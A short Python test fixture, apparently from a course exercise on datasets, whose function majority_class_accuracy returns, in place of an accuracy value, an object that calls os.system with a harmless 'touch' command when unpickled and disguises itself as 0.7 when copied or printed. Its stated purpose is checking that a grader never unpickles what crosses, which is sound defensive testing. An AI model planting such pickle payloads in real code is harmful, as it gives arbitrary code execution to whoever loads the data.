"""Tries: returns objects that run a command of its choice when they are unpickled, copied or printed.
Must: nothing is unpickled; only plain values cross.
Exercise: lesson_05_datasets/baseline
"""

import os
import pickle

COMMAND = "touch /tmp/course-attack-left-by-a-pickle"


class Loaded:
    """Runs a command in whoever loads it."""

    def __reduce_ex__(self, protocol):
        return os.system, (COMMAND,)

    __deepcopy__ = __copy__ = lambda *_: 0.7
    __repr__ = lambda _: "0.7"


def majority_class_accuracy(train, test):
    loaded = Loaded()
    return [loaded, pickle.dumps(loaded)]
